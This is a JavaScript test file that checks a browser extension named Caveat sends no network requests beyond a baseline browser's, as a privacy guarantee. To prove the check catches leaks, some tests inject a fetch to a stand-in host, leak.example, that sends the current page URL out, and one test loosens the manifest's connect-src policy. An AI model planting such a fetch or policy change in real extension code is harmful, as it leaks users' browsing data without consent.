// Nothing leaves the browser: the hosts that are asked for with Caveat are among those that are asked for without it.

import assert from 'node:assert/strict';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';
import { copyOfExtension } from './harness/altered.mjs';
import { browserName } from './harness/browser.mjs';
import { openCard } from './harness/card.mjs';
import { launch } from './harness/launch.mjs';
import { awaitMarks, hover } from './harness/marks.mjs';
import { until } from './harness/until.mjs';
import { startWeb } from './harness/web.mjs';

const articles = ['plain.html', 'strict.html', 'framework.html'];

/** What a browser does by itself and these tests do not need. */
const quiet = {
  args: ['--disable-background-networking', '--disable-component-update', '--disable-sync', '--disable-features=AutofillServerCommunication,OptimizationHints'],
};

/** An extension that does nothing: browsers ask for some things because there is an extension at all. */
const idle = mkdtempSync(join(tmpdir(), 'caveat-idle-'));

before(() => writeFileSync(join(idle, 'manifest.json'), JSON.stringify({
  manifest_version: 3,
  name: 'Idle',
  version: '1',
  browser_specific_settings: { gecko: { id: 'idle@caveat.example' } },
})));
after(() => rmSync(idle, { recursive: true, force: true }));

/**
 * A browser without Caveat, for as long as it takes to ask for all of `hosts`, or for `limit`.
 * @param {string[]} hosts
 * @param {number} limit milliseconds
 * @returns {Promise<string[]>} the hosts it did not ask for
 */
async function notAskedWithoutCaveat(hosts, limit) {
  const web = await startWeb();
  const session = await launch(browserName, { proxy: web.proxy, extension: idle, ...quiet });
  const missing = () => hosts.filter((host) => !web.requests.includes(host));
  try {
    for (const article of articles) await session.newPage(`http://news.example/${article}`);
    await until('the same hosts were asked for', () => missing().length === 0, limit).catch(() => {});
    return missing();
  } finally {
    await session.close();
    await web.close();
  }
}

/**
 * All of Caveat at work: marks, cards, popup, options.
 * @param {string} [extension]
 * @returns {Promise<string[]>} every host that was asked for
 */
async function askedWithCaveat(extension) {
  const web = await startWeb();
  const session = await launch(browserName, { proxy: web.proxy, ...(extension && { extension }), ...quiet });
  try {
    for (const article of articles) {
      const page = await session.newPage(`http://news.example/${article}`);
      const [{ text }] = await awaitMarks(page);
      await hover(page, text);
      await openCard(session, page);
      const popup = await session.popup(page);
      await until('the popup has its list', () => popup.evaluate(() => document.querySelector('#marks li') !== null));
    }
    await session.optionsPage();
    return [...new Set(web.requests)];
  } finally {
    await session.close();
    await web.close();
  }
}

test('with Caveat nothing is asked for that is not asked for without it', async () => {
  const asked = await askedWithCaveat();
  assert.ok(asked.includes('news.example'), 'requests are seen');
  assert.deepEqual(await notAskedWithoutCaveat(asked, 30_000), []);
});

test('a request of the content script would be seen', async (t) => {
  const leaking = copyOfExtension();
  t.after(() => leaking.remove());
  leaking.edit('content/main.js', (code) => `fetch('http://leak.example/?' + location.href).catch(() => {});\n${code}`);
  const asked = await askedWithCaveat(leaking.folder);
  assert.ok(asked.includes('leak.example'));
  assert.ok((await notAskedWithoutCaveat(asked, 1_000)).includes('leak.example'));
});

test('a request of the background is refused by the browser', async (t) => {
  const leaking = copyOfExtension();
  t.after(() => leaking.remove());
  leaking.edit('background/main.js', (code) => `${code}\nfetch('http://leak.example/').catch(() => {});\n`);
  assert.ok(!(await askedWithCaveat(leaking.folder)).includes('leak.example'));
});

test('a request of the background would be seen if the browser let it pass', async (t) => {
  const leaking = copyOfExtension();
  t.after(() => leaking.remove());
  leaking.edit('background/main.js', (code) => `${code}\nfetch('http://leak.example/').catch(() => {});\n`);
  leaking.edit('manifest.json', (text) => text.replace("connect-src 'self'", 'connect-src http:'));
  assert.ok((await askedWithCaveat(leaking.folder)).includes('leak.example'));
});
